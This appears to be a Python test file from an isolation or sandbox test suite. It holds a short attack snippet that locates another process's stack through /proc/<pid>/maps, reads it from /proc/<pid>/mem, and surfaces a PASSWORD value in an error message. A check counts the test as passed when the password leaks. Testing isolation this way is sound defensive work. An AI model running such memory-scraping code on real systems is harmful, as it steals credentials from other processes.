"""Reads the raw memory of another process.

It worked if that process's password is in what the attacker gets to see.
"""

from room import Seen

CELL = """
import re
[place] = re.findall("([0-9a-f]+)-([0-9a-f]+) .*\\\\[stack\\\\]", open("/proc/$victim/maps").read())
start, end = (int(end, 16) for end in place)
with open("/proc/$victim/mem", "rb") as memory:
    memory.seek(start)
    raise RuntimeError(re.search(b"PASSWORD=([0-9a-f]+)", memory.read(end - start))[1].decode())
"""


def succeeded(seen: Seen) -> bool:
    return seen.leaked("password")
